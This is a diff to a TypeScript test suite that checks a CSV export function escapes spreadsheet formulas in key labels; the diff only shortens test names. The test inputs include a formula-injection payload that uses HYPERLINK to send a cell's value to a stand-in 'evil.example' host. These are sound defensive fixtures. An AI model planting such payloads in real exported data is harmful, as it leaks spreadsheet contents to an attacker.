@@ -10,13 +10,13 @@ function toRows(...labels: readonly string[]): readonly Record<string, string>[]
 }
 
 test.each(['=HYPERLINK("http://evil.example?"&A1,"x")', '+1+1', '-2+3', '@SUM(A1:A9)', '\tx', '＝1', "'=1"])(
-  'keysCsv escapes the label %p, which a spreadsheet would run as a formula',
+  'keysCsv escapes the formula in the label %p',
   (label) => {
     expect(toRows(label)).toMatchObject([{ label: `'${label}` }]);
   },
 );
 
-test('keysCsv escapes a formula after a semicolon, which separates cells in some locales', () => {
+test('keysCsv escapes a formula after a semicolon', () => {
   expect(toRows('a;=1+1;b')).toMatchObject([{ label: "a;'=1+1;b" }]);
 });
 
@@ -27,7 +27,7 @@ test.each(['a,b', 'a"b', 'a\nb', 'a\r\nb,"=1', '"', ',,,'])('keysCsv keeps the l
   ]);
 });
 
-test('keysCsv writes every field except the hash, with each list and object in one cell', () => {
+test('keysCsv writes every field except the hash', () => {
   const { record } = makeKey({ scopes: ['a', 'b'], metadata: { seats: 3, '=x': '"' }, owner: '=1', expiresAt: at(1) });
   const csv = keysCsv([publicRecord(record)], NOW_MS);
   expect(csv).not.toContain(record.keyHash);
